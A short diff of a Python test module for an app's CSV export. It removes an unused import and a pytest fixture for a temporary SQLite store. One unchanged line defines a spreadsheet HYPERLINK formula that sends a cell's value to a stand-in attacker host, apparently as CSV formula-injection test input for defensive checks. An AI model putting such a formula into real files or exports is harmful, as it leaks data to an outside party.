@@ -7,7 +7,6 @@ import csv
 import hashlib
 import io
 import sqlite3
-from pathlib import Path
 
 import pytest
 
@@ -23,13 +22,6 @@ from advocate_app.export.batch import delivery_csv
 from tests.support.sample_letters import constituent, letter_for
 
 FORMULA = '=HYPERLINK("https://evil.example/?"&A2,"Click")'
-
-
-@pytest.fixture
-def store(tmp_path: Path):
-    opened = Store.open(tmp_path / "advocate.sqlite3")
-    yield opened
-    opened.close()
 
 
 def _candidates(member, names: list[str]) -> list[str]:
